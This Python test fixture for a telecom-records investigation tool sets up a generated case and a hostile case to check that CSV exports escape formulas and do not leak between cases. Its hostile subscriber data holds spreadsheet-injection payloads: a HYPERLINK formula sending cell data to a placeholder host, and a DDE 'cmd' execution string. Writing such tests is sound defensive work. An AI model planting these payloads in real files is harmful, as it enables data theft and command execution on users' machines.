"""Two cases in one workspace for the export tests: a generated case and a small hostile one.

"gen" is `filiere generate --seed 3 --size small` ingested and resolved.
"hb" holds a subscriber list whose names are spreadsheet formulas and three calls between fictional
Niger numbers: what it exports must be escaped, and neither case may leak into the other's exports.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from filiere.workspace import Workspace
from tests.conftest import new_database_url
from tests.support.cli import CliRunner

HYPERLINK = '=HYPERLINK("http://exemple.invalid/?x="&A1,"ouvrir")'
COMMAND = "+cmd|' /C calc'!A0"
PHONE = "+22790000000"
SUBSCRIBERS = f"""Numéro;Nom;Prénom(s);Type pièce;N° pièce;Date d'activation;Opérateur;Adresse
22790000000;{HYPERLINK};Moussa;CNI;EXO-NE-0001;05/02/2024;Opérateur fictif;Niamey
22790000001;{COMMAND};Awa;CNI;EXO-NE-0002;05/02/2024;Opérateur fictif;Zinder
"""
CALLS = """Numéro A;Numéro B;Date;Heure;Durée;Type d'appel
22790000000;22790000001;07/12/2025;07:34:06;00:07:55;MOC
22790000001;22790000000;08/12/2025;09:20:57;00:00:16;MOC
22790000000;22790000002;09/12/2025;10:20:57;00:01:16;MOC
"""


def build_cases(request: pytest.FixtureRequest, root: Path) -> Iterator[tuple[CliRunner, Workspace]]:
    with pytest.MonkeyPatch.context() as env:
        env.setenv("FILIERE_LANG", "en")
        env.setenv("FILIERE_USER", "test-officer")
        url = new_database_url(request.param, request)
        cli = CliRunner(root / "ws", url)
        cli("generate", root / "gen", "--seed", "3", "--size", "small")
        cli("case", "create", "gen", "--country", "SN")
        cli("ingest", "--case", "gen", root / "gen" / "evidence")
        cli("resolve", "--case", "gen")
        hostile = root / "hostile"
        hostile.mkdir()
        (hostile / "abonnes_hostiles.csv").write_text(SUBSCRIBERS, encoding="utf-8")
        (hostile / "cdr_hostile.csv").write_text(CALLS, encoding="utf-8")
        cli("case", "create", "hb", "--country", "NE")
        cli("ingest", "--case", "hb", hostile)
        cli("resolve", "--case", "hb")  # no text to extract: ingest stops before resolution
        ws = Workspace.open(root / "ws", url)
        yield cli, ws
        ws.close()
